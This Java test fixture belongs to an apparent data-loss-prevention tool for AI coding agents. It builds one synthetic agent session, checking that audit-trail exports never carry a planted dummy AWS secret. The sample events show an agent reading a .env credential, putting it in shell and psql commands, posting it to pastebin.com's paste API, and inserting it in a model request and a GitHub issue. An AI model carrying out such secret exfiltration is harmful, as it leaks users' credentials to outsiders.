package io.agentdlp.alerts.trail;

import java.time.Instant;
import java.util.List;
import java.util.Map;

import io.agentdlp.avro.Agent;
import io.agentdlp.avro.AgentEgressEvent;
import io.agentdlp.avro.Content;
import io.agentdlp.avro.Destination;
import io.agentdlp.avro.Device;
import io.agentdlp.avro.EventKind;
import io.agentdlp.avro.EventSource;
import io.agentdlp.avro.Finding;
import io.agentdlp.avro.Repo;
import io.agentdlp.avro.Severity;
import io.agentdlp.avro.Tool;
import io.agentdlp.avro.ToolCategory;
import io.agentdlp.avro.User;

/** Agent events of one session, one per OCSF class, each carrying content that must never be exported. */
public final class TrailEvents {
    /** A credential inside event content; no trail record may contain it. */
    public static final String RAW = "ZUm14QhoxhLPAbQcEFUV2fsjGHb6HrlEOS47WgjK";
    public static final Instant T0 = Instant.parse("2026-11-24T05:00:00Z");

    private TrailEvents() {
    }

    static AgentEgressEvent.Builder base(String id, int second, EventKind kind) {
        return AgentEgressEvent.newBuilder()
                .setEventId(id).setEventTime(T0.plusSeconds(second)).setIngestTime(T0.plusSeconds(second).plusMillis(40))
                .setSource(EventSource.claude_hook)
                .setDevice(Device.newBuilder().setId("dev-7").setHostname("dana-laptop").setOs("linux").build())
                .setUser(User.newBuilder().setId("dana").setEmail("dana@corp.test").build())
                .setAgent(Agent.newBuilder().setName("claude-code").setVersion("2.1.3").setModel("claude-sonnet-4").build())
                .setSessionId("sess-1").setTurnId("turn-3").setKind(kind)
                .setRepo(Repo.newBuilder().setRemote("git@git.corp.test:pay/api.git").setBranch("main").build());
    }

    static Content content(String text) {
        return Content.newBuilder().setText(text).setBytes(text.length()).setSha256("9f".repeat(32))
                .setField("tool_input.command").build();
    }

    static Finding secretFinding() {
        return Finding.newBuilder().setDetector("secret").setRuleId("aws-secret-access-key").setSeverity(Severity.CRITICAL)
                .setRedactedPreview("ZUm1****").setKeyedHash("ab".repeat(32)).setField("tool_input.command").build();
    }

    /** 1001: the agent read a file holding a credential. */
    public static AgentEgressEvent fileRead() {
        return base("ev-file", 1, EventKind.file_read).setToolUseId("tu-1")
                .setTool(Tool.newBuilder().setName("Read").setCategory(ToolCategory.file_read)
                        .setInputJson("{\"file_path\":\"/home/dana/pay/.env\"}").build())
                .setFilePath("/home/dana/pay/.env").setContent(content("AWS_SECRET=" + RAW))
                .setFindings(List.of(secretFinding())).build();
    }

    /** 1007: a shell command whose command line carries the credential. */
    public static AgentEgressEvent shell() {
        return base("ev-shell", 2, EventKind.tool_call).setToolUseId("tu-2").setCanBlock(true)
                .setTool(Tool.newBuilder().setName("Bash").setCategory(ToolCategory.shell)
                        .setInputJson("{\"command\":\"export K=" + RAW + "\"}").build())
                .setContent(content("export K=" + RAW)).build();
    }

    /** 4001: a raw connection (no HTTP URL). */
    public static AgentEgressEvent network() {
        return base("ev-net", 3, EventKind.network_request).setToolUseId("tu-3")
                .setTool(Tool.newBuilder().setName("Bash").setCategory(ToolCategory.shell).build())
                .setDestination(Destination.newBuilder().setHost("db.corp.test").setPort(5432).build())
                .setContent(content("psql " + RAW)).build();
    }

    /** 4002: a web fetch. */
    public static AgentEgressEvent http() {
        return base("ev-http", 4, EventKind.network_request).setToolUseId("tu-4")
                .setTool(Tool.newBuilder().setName("WebFetch").setCategory(ToolCategory.web).build())
                .setDestination(Destination.newBuilder().setHost("pastebin.com").setPort(443)
                        .setUrl("https://pastebin.com/api/api_post.php").build())
                .setAttributes(Map.of("http.method", "post"))
                .setContent(content("api_paste_code=" + RAW)).build();
    }

    /** 6003: a model request through the proxy. */
    public static AgentEgressEvent modelRequest() {
        return base("ev-model", 5, EventKind.model_request).setSource(EventSource.proxy)
                .setDestination(Destination.newBuilder().setHost("api.anthropic.com").setPort(443)
                        .setUrl("https://api.anthropic.com/v1/messages").build())
                .setContent(content("user: my key is " + RAW)).setFindings(List.of(secretFinding())).build();
    }

    /** 6003: an MCP tool call. */
    public static AgentEgressEvent mcpCall() {
        return base("ev-mcp", 6, EventKind.tool_call).setToolUseId("tu-6")
                .setTool(Tool.newBuilder().setName("mcp__github__create_issue").setCategory(ToolCategory.mcp)
                        .setMcpServer("github").setInputJson("{\"body\":\"" + RAW + "\"}").build())
                .setContent(content("{\"body\":\"" + RAW + "\"}")).build();
    }

    /** 6002: the session started. */
    public static AgentEgressEvent sessionStart() {
        return base("ev-session", 0, EventKind.session).setAttributes(Map.of("hook_event_name", "SessionStart")).build();
    }

    /** The session in event-time order. */
    public static List<AgentEgressEvent> session() {
        return List.of(sessionStart(), fileRead(), shell(), network(), http(), modelRequest(), mcpCall());
    }
}
